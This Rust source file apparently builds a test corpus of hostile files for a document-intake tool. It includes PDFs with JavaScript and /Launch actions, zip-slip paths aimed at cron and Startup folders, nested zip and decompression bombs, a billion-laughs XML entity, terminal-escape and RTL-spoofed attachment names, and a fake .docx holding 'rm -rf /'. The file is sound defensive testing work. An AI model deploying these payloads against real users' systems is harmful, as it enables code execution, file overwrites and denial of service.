//! More files that want to do harm: what runs by itself, what lies inside, what is drawn for ever, what is cut off.

use crate::{
    hostile::{
        ACTIVE, Add, BROKEN, PROGRAM, READ, crc32, one_page, page_with, raw_pdf, zeros_deflated,
        zip,
    },
    papers::{Objects, classic, classic_with, deflated, noise, paper},
};

/// Nothing need be said of it by itself: Faldone never opens it up.
const LEFT_SHUT: &[&str] = &[];
const EMBEDDED: &[&str] = &["embedded-files", "portfolio"];
const LOCKED: &[&str] = &["locked", "damaged", "incomplete", "restricted"];

pub(crate) fn all(add: Add<'_>) {
    active(add);
    inside(add);
    drawn_for_ever(add);
    numbers_that_lie(add);
    encrypted(add);
    cut(add);
    pictures(add);
    mails(add);
    programs(add);
}

/// A page of text under a catalogue with these entries, followed by these objects (the first is number 6).
fn with_catalogue(entries: &str, page: &str, more: &[&str]) -> Vec<u8> {
    let mut objects = Objects::default();
    objects.add(format!("<< /Type /Catalog /Pages 2 0 R {entries} >>"));
    objects.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
    objects.add(format!(
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> {page} >>"
    ));
    objects.stream("", b"BT /F 12 Tf 60 700 Td (Please open this form at once.) Tj ET");
    objects.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
    for object in more {
        objects.add(object);
    }
    classic(&objects, "\n")
}

/// Everything by which a PDF can do something when it is opened.
fn active(add: Add<'_>) {
    let script = "<< /S /JavaScript /JS (app.launchURL\\('http://example.org'\\)) >>";
    let widget =
        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K 7 0 R >> >>";
    let rows: [(&str, &str, &str, &[&str]); 10] = [
        ("script by name", "/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", "", &[script]),
        (
            "script in a ring of names",
            "/Names << /JavaScript << /Kids [6 0 R] >> >>",
            "",
            &["<< /Kids [6 0 R 7 0 R] >>", "<< /Names [(a) 8 0 R] >>", script],
        ),
        ("script behind a reference", "/OpenAction 6 0 R", "", &[script]),
        ("script in disguise", "/OpenAction << /S /J#61va#53cript /J#53 (1) >>", "", &[]),
        ("script of the page", "", "/AA << /O 6 0 R >>", &[script]),
        (
            "script of a field",
            "/AcroForm << /Fields [6 0 R] >>",
            "/Annots [6 0 R]",
            &[widget, script],
        ),
        (
            "script as the next action",
            "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
            "",
            &[script],
        ),
        (
            "script in a ring of actions",
            "/OpenAction 6 0 R",
            "",
            &["<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R 7 0 R] >>", script],
        ),
        (
            "launch from a link",
            "",
            "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (\\\\\\\\server\\\\share\\\\a.exe) >> >>]",
            &[],
        ),
        ("launch when printed", "/AA << /WP << /S /Launch /F (/bin/sh) >> >>", "", &[]),
    ];
    for (name, catalogue, page, more) in rows {
        add(&format!("{name}.pdf"), with_catalogue(catalogue, page, more), ACTIVE);
    }
    let submit = "/OpenAction << /S /SubmitForm /F (http://example.org/take) >>";
    add("a form that sends itself.pdf", with_catalogue(submit, "", &[]), READ);
    let xfa = "/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>";
    let template = "<< /Length 60 >>\nstream\n<template><script>xfa.host.gotoURL('http://a')</script>/>\nendstream";
    add(
        "a form with a script.pdf",
        with_catalogue(xfa, "", &[template]),
        &["xfa", "active-content", "incomplete"],
    );
}

/// Files inside files, and archives that lead out of the folder they are opened in.
fn inside(add: Add<'_>) {
    let specification =
        "<< /Type /Filespec /F (../../../.bashrc) /UF (../../../.bashrc) /EF << /F 7 0 R >> >>";
    let stream = "<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream";
    let pinned = "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]";
    add("pinned file.pdf", with_catalogue("", pinned, &[specification, stream]), EMBEDDED);
    let names = "/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>";
    let collection = format!("{names} /Collection << /View /T >>");
    add("portfolio.pdf", with_catalogue(&collection, "", &[specification, stream]), EMBEDDED);
    let ring = "/Names << /EmbeddedFiles 6 0 R >>";
    add("files in a ring.pdf", with_catalogue(ring, "", &["<< /Kids [6 0 R 6 0 R] >>"]), READ);
    for (name, entry) in [
        ("slip.zip", "../../../../etc/cron.d/job"),
        ("slip.docx", "..\\..\\..\\Startup\\a.exe"),
        ("absolute.xlsx", "/etc/passwd"),
        ("drive.odt", "C:/Windows/a.dll"),
    ] {
        add(name, zip(entry, 1), LEFT_SHUT);
    }
    let mut nested = zip("0.zip", 1);
    for _ in 0..50 {
        nested = stored_zip("x.zip", &nested);
    }
    add("zips in zips.zip", nested, LEFT_SHUT);
    let mut immense = zip("word/document.xml", 1);
    let at = immense.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
    immense[at + 24..at + 28].fill(0xff);
    add("claims four gigabytes.docx", immense, LEFT_SHUT);
}

/// A ZIP of one entry, not compressed.
fn stored_zip(name: &str, data: &[u8]) -> Vec<u8> {
    let fields = [
        &[20, 0, 0, 0, 0, 0, 0, 0, 0, 0][..],
        &crc32(data).to_le_bytes(),
        &(data.len() as u32).to_le_bytes(),
        &(data.len() as u32).to_le_bytes(),
        &(name.len() as u16).to_le_bytes(),
        &[0, 0],
    ]
    .concat();
    let entry = [b"PK\x03\x04", &fields[..], name.as_bytes(), data].concat();
    let directory = [b"PK\x01\x02\x14\0", &fields[..], &[0; 14], name.as_bytes()].concat();
    let end = [
        b"PK\x05\x06\0\0\0\0\x01\0\x01\0",
        &(directory.len() as u32).to_le_bytes()[..],
        &(entry.len() as u32).to_le_bytes(),
        &[0, 0],
    ]
    .concat();
    [entry, directory, end].concat()
}

/// Pages that are read or drawn for ever, or draw themselves.
fn drawn_for_ever(add: Add<'_>) {
    let tile = "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources << /Pattern << /P 6 0 R >> >>";
    let tiles: Vec<u8> = b"/Pattern cs /P scn 0 0 9999 9999 re f".to_vec();
    let patterns = "/Pattern << /P 6 0 R >>";
    add("tiles in tiles.pdf", one_page("", &tiles, patterns, &[(tile, tiles.clone())]), READ);
    let glyph = "/Type /XObject";
    let font = "/Font << /G << /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources 7 0 R >> >>";
    let mut letters = Objects::default();
    letters.add("<< /Type /Catalog /Pages 2 0 R >>");
    letters.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
    letters.add(format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << {font} >> >>"));
    letters.stream("", b"BT /G 9 Tf (aaaaaaaaaa) Tj ET");
    letters.add("null");
    letters.stream(glyph, b"9 0 d0 BT /G 9 Tf (aaaaaaaaaa) Tj ET");
    letters.add(format!("<< {font} >>"));
    add("letters made of letters.pdf", classic(&letters, "\n"), READ);
    let mask = "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Group << /S /Transparency >> /Resources << /ExtGState << /M << /SMask << /S /Luminosity /G 6 0 R >> >> >> >>";
    let masks = "/ExtGState << /M << /SMask << /S /Luminosity /G 6 0 R >> >> >>";
    let masked = b"/M gs 0 0 595 842 re f".to_vec();
    add("a mask in itself.pdf", one_page("", &masked, masks, &[(mask, masked.clone())]), READ);
    let look = "<< /Type /Annot /Subtype /Stamp /Rect [0 0 99 99] /AP << /N 6 0 R >> >>";
    let mut many = Objects::default();
    many.add("<< /Type /Catalog /Pages 2 0 R >>");
    many.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
    many.add(format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> /Annots [{}] >>", look.repeat(20_000)));
    many.stream("", b"0 0 m 9 9 l S");
    many.add("null");
    many.stream(
        "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
        &b"/X Do ".repeat(20),
    );
    add("twenty thousand stamps.pdf", classic(&many, "\n"), READ);
    let dashes = b"[0.00001 0.00001] 0 d 0 0 m 59500 84200 l S ".repeat(20);
    add("dashes.pdf", one_page("", &dashes, "", &[]), READ);
    let lines = b"0 0 m ".to_vec();
    let lines = [lines, b"1 1 l 500 800 l ".repeat(500_000), b"S".to_vec()].concat();
    add("a million lines.pdf", one_page("/Filter /FlateDecode", &deflated(&lines), "", &[]), READ);
    let map = "/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00000000> <ffffffff> endcodespacerange 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange endcmap";
    let font = "/Font << /G << /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /W [0 4294967295 500] >>] >> >>";
    add(
        "four billion letters.pdf",
        one_page("", b"BT /G 9 Tf <00410042> Tj ET", font, &[("", map.into())]),
        READ,
    );
    let inline = [
        b"BI /W 60000 /H 60000 /BPC 8 /CS /RGB /F /Fl ID ".to_vec(),
        deflated(&vec![0; 1 << 20]),
        b" EI".to_vec(),
    ]
    .concat();
    add("a huge picture on the page.pdf", one_page("", &inline.repeat(20), "", &[]), READ);
    for (filter, more) in [
        ("JBIG2Decode", ""),
        ("JPXDecode", ""),
        ("DCTDecode", ""),
        ("CCITTFaxDecode", "/DecodeParms << /K -1 /Columns 1000000000 /Rows 1000000000 >>"),
        (
            "LZWDecode",
            "/DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >>",
        ),
        ("FlateDecode", "/DecodeParms << /Predictor 12 /Columns -1 >>"),
    ] {
        let dict = format!(
            "/Type /XObject /Subtype /Image /Width 2147483647 /Height 2147483647 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /{filter} {more}"
        );
        let bytes = one_page(
            "",
            b"595 0 0 842 0 0 cm /I Do",
            "/XObject << /I 6 0 R >>",
            &[(&dict, noise(20, 3000))],
        );
        add(&format!("picture {filter}.pdf"), bytes, READ);
    }
    let calculator = "<< /FunctionType 4 /Domain [0 1] /Range [0 1] /Length 30000 >>";
    let code = format!("{{{}}}", "dup ".repeat(7000));
    let shade = format!(
        "/Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 1 0 1] /Function 6 0 R >> >> /X {}",
        calculator.len()
    );
    let function = "/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]";
    add(
        "a shade that reckons.pdf",
        one_page("", b"/S sh", &shade, &[(function, code.into_bytes())]),
        READ,
    );
}

/// Figures in the structure that no memory, no page and no file has.
fn numbers_that_lie(add: Add<'_>) {
    let pages = |pages: &str| raw_pdf(&["<< /Type /Catalog /Pages 2 0 R >>", pages], "");
    add("pages below nothing.pdf", pages("<< /Type /Pages /Kids [3 0 R] /Count -1 >>"), READ);
    add("a page of a word.pdf", pages("<< /Type /Pages /Kids (no list) /Count /Name >>"), READ);
    let kids = "3 0 R ".repeat(200_000);
    add(
        "the same page for ever.pdf",
        raw_pdf(
            &[
                "<< /Type /Catalog /Pages 2 0 R >>",
                &format!("<< /Type /Pages /Kids [{kids}] /Count 200000 >>"),
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
            ],
            "",
        ),
        READ,
    );
    let objects = Objects(vec![b"<< /Type /Catalog /Pages 1 0 R >>".to_vec()]);
    for (name, trailer) in [
        ("back before the start", "/Prev -1"),
        ("back beyond the end", "/Prev 99999999999999999999"),
        ("a root that is itself", "/Root 99 0 R"),
        ("a stream of no table", "/XRefStm 1"),
    ] {
        add(&format!("{name}.pdf"), classic_with(&objects, "\n", trailer), READ);
    }
    // A cross-reference stream whose fields are wider than any number, and one that counts from below nothing.
    for (name, fields) in [
        ("wide fields", "/W [255 255 255] /Index [0 999999999]"),
        ("no fields", "/W [0 0 0] /Index [0 999999999]"),
        ("fields below nothing", "/W [-1 -4 -1] /Index [-5 -5 5]"),
        ("endless index", "/W [1 4 1] /Index [0 2147483647 0 2147483647 0 2147483647]"),
    ] {
        let mut out = b"%PDF-1.5\n".to_vec();
        let at = out.len();
        let data = deflated(&[1u8; 600]);
        out.extend(format!("1 0 obj\n<< /Type /XRef /Size 2147483647 {fields} /Root 1 0 R /Filter /FlateDecode /Length {} >>\nstream\n", data.len()).bytes());
        out.extend(&data);
        out.extend(format!("\nendstream\nendobj\nstartxref\n{at}\n%%EOF\n").bytes());
        add(&format!("{name}.pdf"), out, BROKEN);
    }
    // A box of objects that says it lies in itself, and one that holds two thousand million.
    for (name, dict) in [
        ("a box in itself", "/Type /ObjStm /N 1 /First 4 /Extends 5 0 R"),
        ("a box of everything", "/Type /ObjStm /N 2147483647 /First 2147483647"),
    ] {
        let mut objects = Objects::default();
        objects.add("<< /Type /Catalog /Pages 2 0 R >>");
        objects.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
        objects.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 5 0 R >>");
        objects.add("null");
        objects.stream(dict, b"5 0 << >>");
        add(&format!("{name}.pdf"), classic(&objects, "\n"), READ);
    }
    for range in
        ["0 99999999999 0 1", "-5 10 20 30", "0 10", "9223372036854775807 9223372036854775807 1 1"]
    {
        let field = format!(
            "<< /FT /Sig /T (s) /V << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [{range}] /Contents <3080> >> >>"
        );
        let name = format!("signed over {}.pdf", range.replace(' ', "-"));
        add(
            &name,
            with_catalogue("/AcroForm << /SigFlags 3 /Fields [6 0 R] >>", "", &[&field]),
            READ,
        );
    }
    let fields = "/AcroForm << /Fields [6 0 R] >>";
    add(
        "fields in a ring.pdf",
        with_catalogue(
            fields,
            "/Annots [6 0 R]",
            &["<< /FT /Tx /T (a) /Kids [6 0 R 6 0 R] /Parent 6 0 R >>"],
        ),
        READ,
    );
    add(
        "outlines in a ring.pdf",
        with_catalogue(
            "/Outlines 6 0 R",
            "",
            &["<< /First 6 0 R /Last 6 0 R /Next 6 0 R /Title (a) >>"],
        ),
        READ,
    );
    let long = format!("<< /{} 1 >>", "A".repeat(5_000_000));
    add("a long name.pdf", page_with(&long), READ);
    add("a long number.pdf", page_with(&"9".repeat(3_000_000)), READ);
    add("a long string.pdf", page_with(&format!("<{}>", "30".repeat(3_000_000))), READ);
    add("a long comment.pdf", page_with(&format!("%{}\nnull", "x".repeat(5_000_000))), READ);
}

fn encrypted(add: Add<'_>) {
    let long = "FF".repeat(100_000);
    for (name, dict) in [
        ("locked by nobody", "<< /Filter /Standard >>".to_owned()),
        ("locked by a stranger", "<< /Filter /Unknown.Vendor /V 99 /R 99 >>".to_owned()),
        ("locked by itself", "7 0 R".to_owned()),
        ("locked with nonsense", "<< /Filter /Standard /V 4 /R 4 /Length -128 /P -1 /O (short) /U (short) /CF << /StdCF << /CFM /AESV9 >> >> /StmF /StdCF /StrF /StdCF >>".to_owned()),
        ("locked with a long key", format!("<< /Filter /Standard /V 5 /R 6 /Length 99999999 /P 0 /O <{long}> /U <{long}> /OE <{long}> /UE <{long}> /Perms <{long}> >>")),
    ] {
        let mut objects = paper("Comunicazione");
        let at = objects.0.len() + 1;
        let of_itself = dict.replace("7 0 R", &format!("{at} 0 R"));
        objects.add(of_itself);
        let trailer = format!("/Encrypt {at} 0 R /ID [<00> <00>]");
        add(&format!("{name}.pdf"), classic_with(&objects, "\n", &trailer), LOCKED);
    }
}

/// Honest files that somebody's connection cut off.
fn cut(add: Add<'_>) {
    let whole = classic(&paper("Comunicazione"), "\n");
    for part in [1, 5, 9] {
        add(&format!("{part} tenths.pdf"), whole[..whole.len() * part / 10].to_vec(), BROKEN);
    }
    add("all but its last line.pdf", whole[..whole.len() - 6].to_vec(), BROKEN);
    let mut zeroed = whole.clone();
    let at = whole.len() / 3;
    zeroed[at..2 * at].fill(0);
    add("a hole of zeros.pdf", zeroed, BROKEN);
    add("all zeros.pdf", vec![0; 100_000], BROKEN);
    let picture = png(&[(b"IDAT", deflated(&[0; 4000]))], 10, 10);
    add("half a picture.png", picture[..picture.len() / 2].to_vec(), BROKEN);
    let archive = stored_zip("word/document.xml", &noise(30, 4000));
    add("half a letter.docx", archive[..2000].to_vec(), BROKEN);
    add("half a letter.zip", archive[..2000].to_vec(), BROKEN);
}

/// A PNG of these chunks.
fn png(chunks: &[(&[u8; 4], Vec<u8>)], width: u32, height: u32) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let head = [&width.to_be_bytes()[..], &height.to_be_bytes(), &[8, 6, 0, 0, 0]].concat();
    let all = [(b"IHDR", head)].into_iter().chain(chunks.iter().cloned());
    for (kind, data) in all.chain([(b"IEND", Vec::new())]) {
        out.extend((data.len() as u32).to_be_bytes());
        let body = [&kind[..], &data].concat();
        out.extend(&body);
        out.extend(crc32(&body).to_be_bytes());
    }
    out
}

fn pictures(add: Add<'_>) {
    let bomb = zeros_deflated(1024);
    let text = [b"Comment\0\0".to_vec(), bomb.clone()].concat();
    let profile = [b"icc\0\0".to_vec(), bomb].concat();
    let data = (b"IDAT", deflated(&[0; 4000]));
    add("a comment.png", png(&[(b"zTXt", text), data.clone()], 10, 10), LEFT_SHUT);
    add("a profile.png", png(&[(b"iCCP", profile), data.clone()], 10, 10), LEFT_SHUT);
    add("no size.png", png(std::slice::from_ref(&data), 0, 0), LEFT_SHUT);
    let mut jpeg = b"\xff\xd8\xff\xe1\0\x20Exif\0\0II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0\x01\0\0\0\x08\0\0\0".to_vec();
    jpeg.extend(b"\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03\x01\x22\0\x02\x11\x01\x03\x11\x01\xff\xda\0\x0c\x03\x01\0\x02\x11\x03\x11\0\x3f\0");
    jpeg.extend(noise(40, 5000));
    jpeg.extend(b"\xff\xd9");
    add("huge.jpg", jpeg, LEFT_SHUT);
    // A TIFF whose directory follows itself, one of two thousand million strips, and one whose numbers run the other way.
    add("a ring.tif", b"II*\0\x08\0\0\0\0\0\x08\0\0\0".to_vec(), LEFT_SHUT);
    let strips = b"II*\0\x08\0\0\0\x01\0\x11\x01\x04\0\xff\xff\xff\x7f\x00\0\0\0\0\0\0\0".to_vec();
    add("strips.tif", strips, LEFT_SHUT);
    add("far.tiff", b"MM\0*\xff\xff\xff\xff".to_vec(), LEFT_SHUT);
    // Boxes that are endless, empty, or hold themselves for ever.
    let heic = |boxes: &[u8]| [b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", boxes].concat();
    add("endless.heic", heic(b"\0\0\0\0meta\0\0\0\0"), LEFT_SHUT);
    add("empty boxes.heic", heic(&b"\0\0\0\x08free".repeat(100_000)), LEFT_SHUT);
    let deep: Vec<u8> =
        (1..=5000u32).rev().flat_map(|n| [(n * 8).to_be_bytes(), *b"meta"].concat()).collect();
    add("boxes in boxes.heic", heic(&deep), LEFT_SHUT);
    add("an immense box.heic", heic(b"\0\0\0\x01mdat\xff\xff\xff\xff\xff\xff\xff\xff"), LEFT_SHUT);
}

fn mails(add: Add<'_>) {
    let mail = |headers: &str, body: &[u8]| {
        [
            format!("From: a@example.org\r\nTo: b@example.org\r\n{headers}\r\n\r\n").into_bytes(),
            body.to_vec(),
        ]
        .concat()
    };
    add("headers.eml", mail(&"X-Padding: aaaaaaaaaaaaaaaa\r\n".repeat(300_000), b"hi"), READ);
    add(
        "comments.eml",
        mail(&format!("Cc: {}a@example.org{}", "(".repeat(200_000), ")".repeat(200_000)), b"hi"),
        READ,
    );
    add("groups.eml", mail(&format!("Cc: {}", "a:b@example.org,".repeat(100_000)), b"hi"), READ);
    let boundary = "b".repeat(100_000);
    add(
        "boundary.eml",
        mail(
            &format!("MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"{boundary}\""),
            &b"--b".repeat(100_000),
        ),
        READ,
    );
    let attached = "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b";
    let base64 = [b"--b\r\nContent-Type: application/octet-stream; name=a.bin\r\nContent-Transfer-Encoding: base64\r\n\r\n".to_vec(), b"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\r\n".repeat(300_000), b"--b--".to_vec()].concat();
    add("an attachment of zeros.eml", mail(attached, &base64), READ);
    let laughs = "<!DOCTYPE a [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><postacert>&c;</postacert>";
    let receipt = format!(
        "--b\r\nContent-Type: application/xml; name=daticert.xml\r\nContent-Disposition: attachment; filename=daticert.xml\r\n\r\n{laughs}{}\r\n--b--",
        "<x".repeat(1_000_000)
    );
    add("a receipt that laughs.eml", mail(attached, receipt.as_bytes()), READ);
    let sly = "--b\r\nContent-Type: text/plain; name=\"../../\u{1b}[2J\u{202e}fdp.exe\"\r\nContent-Disposition: attachment; filename=\"../../\u{1b}[2J\u{202e}fdp.exe\"\r\n\r\nx\r\n--b--";
    add(
        "a sly attachment.eml",
        mail(&format!("Subject: \u{1b}]0;owned\u{7}\u{202e}\r\n{attached}"), sly.as_bytes()),
        READ,
    );
    add(
        "an unknown alphabet.eml",
        mail(
            "Subject: =?x-no-such?q?=FF=FE?=\r\nContent-Type: text/plain; charset=x-no-such",
            &noise(50, 100_000),
        ),
        READ,
    );
    let html = format!("{}hello{}", "<div>".repeat(200_000), "</div>".repeat(200_000));
    add(
        "deep html.eml",
        mail("MIME-Version: 1.0\r\nContent-Type: text/html", html.as_bytes()),
        READ,
    );
    add(
        "an open tag.eml",
        mail("MIME-Version: 1.0\r\nContent-Type: text/html", &b"<a href='".repeat(500_000)),
        READ,
    );
    let digits = "1".repeat(3_000_000);
    add("a long number.eml", mail("Subject: P-MI/L/N/2026", digits.as_bytes()), READ);
    let words = "nulla osta n. del 01/02/2026 Amina Rossi ".repeat(60_000);
    add("the same words.eml", mail("Subject: Nulla osta", words.as_bytes()), READ);
}

/// What a double click would start.
fn programs(add: Add<'_>) {
    add("permesso.pdf.js", b"WScript.Shell".to_vec(), PROGRAM);
    add("permesso.pdf.lnk", b"L\0\0\0\x01\x14\x02\0 and more".to_vec(), PROGRAM);
    add("shortcut.pdf", b"L\0\0\0\x01\x14\x02\0 and more".to_vec(), PROGRAM);
    add("script.docx", b"#!/bin/sh\nrm -rf /\n".to_vec(), PROGRAM);
    add(
        "both at once.pdf",
        [b"#!/bin/sh\nexit\n".to_vec(), classic(&paper("Avviso"), "\n")].concat(),
        PROGRAM,
    );
    add("macros.bat", b"@echo off".to_vec(), PROGRAM);
    add("mac.pdf", b"\xcf\xfa\xed\xfe\x07\0\0\x01".to_vec(), PROGRAM);
}
